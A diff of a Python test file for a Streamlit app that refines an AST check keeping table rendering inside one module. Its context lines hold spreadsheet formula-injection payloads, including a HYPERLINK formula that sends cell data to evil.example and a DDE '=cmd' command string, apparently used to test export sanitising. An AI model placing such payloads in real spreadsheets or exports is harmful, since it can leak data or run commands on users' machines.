@@ -19,13 +19,17 @@ PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C cal
             "-2+3+cmd|'/C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "Təhsil keyfiyyəti", "Plan\r=1+1"]
 
 
-def _direct_calls(path: Path) -> list[str]:
-    """st.dataframe(...), st.data_editor(...), st.table(...) and column.dataframe(...) calls in one file."""
+def _direct_calls(path: Path, root: Path = ROOT) -> list[str]:
+    """st.dataframe(...), st.data_editor(...), st.table(...) and column.dataframe(...) calls in one file (a
+    module's own function of that name, e.g. indicators_view.table(...), is not Streamlit's)."""
+    tree = ast.parse(path.read_text(encoding="utf-8"))
+    modules = {(a.asname or a.name).split(".")[0] for node in ast.walk(tree)
+               if isinstance(node, ast.Import | ast.ImportFrom) for a in node.names} - {"st", "streamlit"}
     found = []
-    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+    for node in ast.walk(tree):
         if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in DIRECT \
-                and not (isinstance(node.func.value, ast.Name) and node.func.value.id in {"tables", "pd", "np"}):
-            found.append(f"{path.relative_to(ROOT)}:{node.lineno} .{node.func.attr}(")
+                and not (isinstance(node.func.value, ast.Name) and node.func.value.id in modules):
+            found.append(f"{path.relative_to(root)}:{node.lineno} .{node.func.attr}(")
     return found
 
 
@@ -34,6 +38,14 @@ def test_no_screen_shows_a_table_itself() -> None:
     found = [c for f in files if f != ROOT / "ui" / "tables.py" for c in _direct_calls(f)]
     assert found == [], "show tables through ui.tables.show / ui.tables.editor: " + ", ".join(found)
     assert _direct_calls(ROOT / "ui" / "tables.py")  # the walker does find them where they are allowed
+
+
+def test_the_walker_finds_columns_and_containers(tmp_path: Path) -> None:
+    page = tmp_path / "page.py"
+    page.write_text("import streamlit as st\nfrom analytics import views\ncols = st.columns(2)\n"
+                    "cols[0].dataframe(x)\nwith st.container() as box:\n    box.table(x)\nviews.table(x)\n"
+                    "st.data_editor(x)\n", encoding="utf-8")
+    assert sorted(c.split(" ")[1] for c in _direct_calls(page, tmp_path)) == [".data_editor(", ".dataframe(", ".table("]
 
 
 def _starts_badly(value: object) -> bool:
